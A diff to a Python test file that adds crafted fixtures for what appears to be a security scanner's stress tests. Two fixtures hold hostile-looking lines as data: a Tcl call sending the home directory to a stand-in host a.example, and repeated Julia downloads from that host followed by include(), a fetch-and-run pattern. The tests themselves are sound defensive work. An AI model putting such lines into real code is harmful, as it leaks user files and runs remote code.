@@ -44,6 +44,16 @@ CRAFTED: dict[str, tuple[Callable[[int], dict[str, str]], tuple[int, int]]] = {
         lambda n: {"SKILL.md": HEAD, "run.py": "x = " + "a" * n + "\ny = b / 'c'\n"},
         (16_000, 96_000),
     ),
+    # A helper program naming home and a send, with one line of many dot-names (progview._home_files).
+    "program-dot-names": (
+        lambda n: {"SKILL.md": HEAD, "run.tcl": "http::geturl https://a.example/u -query $env(HOME)\n" + " .a" * n},
+        (16_000, 96_000),
+    ),
+    # A helper program of many lines, each fetching a URL into a name (progview._fetched_runs).
+    "program-fetches": (
+        lambda n: {"SKILL.md": HEAD, "run.jl": 'x = download("https://a.example/x.jl")\n' * n + "include(y)\n"},
+        (4_000, 32_000),
+    ),
     # One shell line of many `gpg ` words (flow._SH_CAPTURE, rules/hostage._ENCRYPT).
     "gpg-repeated": (lambda n: {"SKILL.md": HEAD, "run.sh": "#!/bin/sh\n" + "gpg " * n + "\n"}, (16_000, 48_000)),
 }
